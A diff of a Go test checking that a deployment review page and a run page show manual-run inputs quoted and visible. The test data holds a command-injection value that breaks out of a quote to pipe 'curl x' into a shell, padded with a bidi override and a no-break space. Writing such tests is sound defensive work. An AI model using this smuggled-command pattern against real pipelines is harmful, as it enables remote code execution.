@@ -112,18 +112,18 @@ func TestHrefRefusesSchemes(t *testing.T) {
 }
 
 // TestDeploymentReviewShowsInputs: a manual run's inputs reach its steps'
-// scripts, so the reviewer of its deployment sees them, as JSON (a
-// newline or a quote in a value is seen, not hidden), and so does the run
-// page.
+// scripts, so the reviewer of its deployment sees them, quoted (a newline,
+// a quote, a bidi override or a no-break space in a value is seen, not
+// hidden or reordered), and so does the run page.
 func TestDeploymentReviewShowsInputs(t *testing.T) {
-	inputs := map[string]any{"target": "prod\"; curl x | sh\n#", "dry": false}
+	inputs := map[string]any{"target": "prod\"; curl x | sh\n#\u202e\u00a0", "dry": false}
 	p := jobPage{Run: store.Run{Inputs: inputs}, CanWrite: true}
 	p.Job.Environment, p.Job.DeployState, p.Job.State = "production", "waiting", "PENDING"
 	var o out
 	if err := writePage(&o, "job", p); err != nil {
 		t.Fatal(err)
 	}
-	want := `<span id="deploy-inputs">dry <code>false</code>, target <code>&#34;prod\&#34;; curl x | sh\n#&#34;</code></span>`
+	want := `<span id="deploy-inputs">dry <code class="input">false</code>, target <code class="input">&#34;prod\&#34;; curl x | sh\n#\u202e\u00a0&#34;</code></span>`
 	if got := o.String(); !strings.Contains(got, want) {
 		t.Fatalf("the review does not show the inputs %s:\n%s", want, got)
 	}
@@ -131,7 +131,7 @@ func TestDeploymentReviewShowsInputs(t *testing.T) {
 	if err := writePage(&o, "run", runPage{Run: store.Run{Inputs: inputs}}); err != nil {
 		t.Fatal(err)
 	}
-	if got := o.String(); !strings.Contains(got, `<dd id="run-inputs">dry <code>false</code>, target`) {
+	if got := o.String(); !strings.Contains(got, `<dd id="run-inputs">dry <code class="input">false</code>, target`) {
 		t.Fatalf("the run page does not show the inputs:\n%s", got)
 	}
 }
